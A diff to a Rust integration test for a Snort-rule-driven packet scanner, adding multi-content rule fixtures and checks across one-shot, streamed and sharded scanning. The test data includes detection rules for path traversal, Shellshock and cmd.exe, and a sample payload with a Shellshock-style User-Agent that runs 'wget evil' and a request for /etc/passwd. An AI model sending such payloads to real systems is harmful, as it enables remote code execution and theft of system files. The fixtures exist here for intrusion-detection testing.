@@ -1,7 +1,11 @@
 //! Integration test: from Snort rule text all the way to alerts, using the
-//! rule parser instead of the synthetic generators.
+//! rule parser instead of the synthetic generators — both the flat pattern
+//! view (`parse_rules`) and the multi-content rule view (`parse_ruleset`
+//! with positional constraints, confirmed end-to-end through the sharded
+//! streaming surface).
 
-use vpatch_suite::patterns::snort::{parse_rules, ParseOptions};
+use vpatch_suite::patterns::rule::naive_rule_find_all;
+use vpatch_suite::patterns::snort::{parse_rules, parse_ruleset, ParseOptions};
 use vpatch_suite::prelude::*;
 
 const RULES: &str = r#"
@@ -87,6 +91,108 @@ fn nocase_rules_fire_on_case_varied_traffic_end_to_end() {
     ]);
     assert_eq!(result.matches.len(), 1);
     assert_eq!(result.matches[0].event.start, 8);
+}
+
+const MULTI_CONTENT_RULES: &str = r#"
+# Multi-content rules with positional constraints.
+alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"traversal"; content:"GET "; content:"/etc/passwd"; distance:0; sid:2000001;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"shellshock UA"; content:"User-Agent:"; content:"() {"; distance:0; within:40; sid:2000002;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"early POST"; content:"POST"; offset:0; depth:4; content:"upload"; nocase; sid:2000003;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:"single"; content:"cmd.exe"; sid:2000004;)
+"#;
+
+#[test]
+fn multi_content_rules_confirm_end_to_end() {
+    let set = parse_ruleset(MULTI_CONTENT_RULES, ParseOptions::default()).expect("rules parse");
+    assert_eq!(set.len(), 4);
+    assert_eq!(set.get(RuleId(0)).sid(), Some(2_000_001));
+
+    let mut payload = Vec::new();
+    payload.extend_from_slice(b"GET /etc/passwd HTTP/1.1\r\n");
+    payload.extend_from_slice(b"User-Agent: () { :;}; wget evil\r\n\r\n");
+    payload.extend_from_slice(b"cmd.exe");
+    // Rule 2 must NOT fire: "POST" absent at offset 0. Rules 0, 1, 3 fire.
+    let expected = naive_rule_find_all(&set, &payload);
+    let fired: Vec<u32> = expected.iter().map(|m| m.rule.0).collect();
+    assert_eq!(fired, vec![0, 1, 3]);
+
+    // One-shot, through the paper's engine.
+    let scanner = RuleScanner::new(std::sync::Arc::from(build_auto(set.anchors())), &set);
+    assert_eq!(scanner.scan_rules(&payload), expected);
+    // Anchor hits (the Matcher view) keep flowing alongside.
+    assert!(!scanner.scan(&payload).is_empty());
+
+    // Streamed, with every rule's contents split across pushes.
+    let engine: SharedMatcher = std::sync::Arc::from(build_auto(set.anchors()));
+    let mut streamed = RuleStreamScanner::new(engine, &set);
+    let (mut anchors, mut rules) = (Vec::new(), Vec::new());
+    for chunk in payload.chunks(7) {
+        streamed.push(chunk, &mut anchors, &mut rules);
+    }
+    rules.sort_unstable();
+    assert_eq!(rules, expected);
+
+    // Sharded: one flow split mid-constraint-window, one clean flow.
+    let engine: SharedMatcher = std::sync::Arc::from(build_auto(set.anchors()));
+    let mut sharded = ShardedScanner::with_rules(engine, &set, 2);
+    let result = sharded.scan_batch(vec![
+        Packet::new(1, payload[..20].to_vec()),
+        Packet::new(2, b"POST /upload HTTP/1.1 UPLOAD".to_vec()),
+        Packet::new(1, payload[20..].to_vec()),
+    ]);
+    let flow1: Vec<u32> = result
+        .rule_matches
+        .iter()
+        .filter(|m| m.flow == 1)
+        .map(|m| m.rule.0)
+        .collect();
+    assert_eq!(
+        flow1,
+        vec![0, 1, 3],
+        "flow 1 confirms across the packet seam"
+    );
+    let flow2: Vec<u32> = result
+        .rule_matches
+        .iter()
+        .filter(|m| m.flow == 2)
+        .map(|m| m.rule.0)
+        .collect();
+    assert_eq!(
+        flow2,
+        vec![2],
+        "flow 2 confirms the POST rule (nocase upload)"
+    );
+}
+
+#[test]
+fn pattern_view_and_rule_view_agree_on_single_content_rules() {
+    // For rules with one content and no constraints, the rule layer must
+    // degenerate to plain pattern matching: same hits, same offsets.
+    let set = parse_ruleset(RULES, ParseOptions::default()).expect("rules parse");
+    let patterns = parse_rules(
+        RULES,
+        ParseOptions {
+            longest_content_only: false,
+            ..ParseOptions::default()
+        },
+    )
+    .expect("rules parse");
+    assert_eq!(set.len(), patterns.len());
+    let payload = b"x /etc/passwd y cmd.exe z VRFY root";
+    let pattern_hits = NaiveMatcher::new(&patterns).find_all(payload);
+    let scanner = RuleScanner::new(std::sync::Arc::from(build_auto(set.anchors())), &set);
+    let rule_hits = scanner.scan_rules(payload);
+    assert_eq!(rule_hits.len(), pattern_hits.len());
+    for m in &rule_hits {
+        let p = &patterns.patterns()[m.rule.index()];
+        assert!(
+            pattern_hits
+                .iter()
+                .any(|h| h.pattern.index() == m.rule.index() && h.start + p.len() == m.end),
+            "rule {} must end where its single content matches",
+            m.rule
+        );
+    }
 }
 
 #[test]
